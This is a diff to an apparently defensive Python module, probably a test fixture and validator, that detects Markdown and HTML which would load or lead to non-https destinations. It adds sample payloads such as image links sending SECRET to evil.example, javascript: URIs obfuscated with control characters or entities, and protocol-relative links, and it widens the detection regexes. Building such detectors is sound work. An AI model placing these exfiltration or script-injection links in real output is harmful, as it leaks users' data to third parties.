@@ -31,6 +31,9 @@ PICTURES = (
     "![logo](https://evil.example/a.png?d=SECRET)",
     "![a][b]\n\n[b]: https://evil.example/x.png",
     "!\u200b[x](https://evil.example/x.png)",
+    "!![x](https://evil.example/x.png)",
+    "!\x1c[x](https://evil.example/x.png)",
+    "!\u3164[x](https://evil.example/x.png)",
     '<img src="https://evil.example/x.png">',
     "<IMG SRC=//evil.example/x.png>",
     '<svg onload="fetch(1)"></svg>',
@@ -60,6 +63,14 @@ LINKS = (
     "[x](\\\\evil.example)",
     "[x]( javascript:alert(1) )",
     "[x](java\tscript:alert(1))",
+    "[x](java\x1cscript:alert(1))",
+    "[x](javascript\\:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](\n//evil.example)",
+    "[x](<//evil.example>)",
+    "[x](custom-app:SECRET)",
+    "[x][y]\n\n[y]: //evil.example",
+    "www.evil.example/SECRET",
     "tel:+63900",
     "mailto:someone@evil.example?body=SECRET",
 )
@@ -102,7 +113,8 @@ _SCHEME = re.compile(r"\b(?!https:)(?:http|javascript|data|vbscript|file|ftp|blo
 
 def leads_away(text: str) -> str | None:
     """What of a text would load or lead anywhere but by https, where a client draws Markdown or HTML; None: nothing."""
-    for pattern in (r"!\u200b?\[", r"<[a-zA-Z/!?]", r"\]\(\s*[/\\]{2}"):
+    text = re.sub("[\u200b\u3164\x1c]", "", text)
+    for pattern in (r"!\[", r"<[a-zA-Z/!?]", r"\]\((?!https:)", r"\]:\s*(?!https:)", r"(?<!/)www\.\w"):
         if found := re.search(pattern, text):
             return found.group()
     found = _SCHEME.search(text)
